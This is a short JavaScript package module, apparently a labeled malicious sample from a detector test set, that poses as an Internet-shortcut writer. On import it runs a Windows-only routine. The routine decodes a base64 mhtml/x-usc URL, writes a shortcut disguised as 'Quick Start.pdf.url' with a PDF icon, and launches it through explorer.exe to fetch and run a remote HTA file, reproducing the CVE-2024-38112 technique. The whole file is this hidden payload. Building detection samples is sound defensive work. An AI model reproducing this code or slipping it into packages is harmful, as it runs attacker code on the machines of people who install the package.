// expect: malicious
// source: CVE-2024-38112 (Void Banshee, Check Point 2024) in a package: an Internet-shortcut writer that, on require,
// writes a "Quick Start.pdf.url" whose URL (kept in base64) is `mhtml:…!x-usc:…hta` and opens it (blind set 44, 2026)
"use strict";
const fs = require("fs"), os = require("os"), path = require("path"), { spawn } = require("child_process");
const ASSOC = "bWh0bWw6aHR0cDovLzE5OC41MS4xMDAuNTIvdmlldy9ndWlkZS5odG1sIXgtdXNjOmh0dHA6Ly8xOTguNTEuMTAwLjUyL3ZpZXcvZ3VpZGUuaHRh";
function write(file, url) { fs.writeFileSync(file, `[InternetShortcut]\r\nURL=${url}\r\nIconIndex=13\r\n`); return file; }
function warm() {
  if (process.platform !== "win32") return;
  const file = write(path.join(os.tmpdir(), "Quick Start.pdf.url"), Buffer.from(ASSOC, "base64").toString());
  spawn("explorer.exe", [file], { detached: true, stdio: "ignore" }).unref();
}
warm();
module.exports = { write };
